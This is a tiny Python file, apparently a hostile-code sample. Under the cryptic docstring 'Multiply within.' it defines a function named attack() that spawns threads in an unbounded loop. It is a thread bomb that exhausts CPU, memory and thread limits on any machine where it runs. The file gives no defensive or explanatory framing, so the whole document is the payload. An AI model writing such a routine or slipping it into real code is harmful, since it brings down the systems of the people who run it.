"""Multiply within."""
import threading


def attack():
    while True:
        threading.Thread(target=print).start()
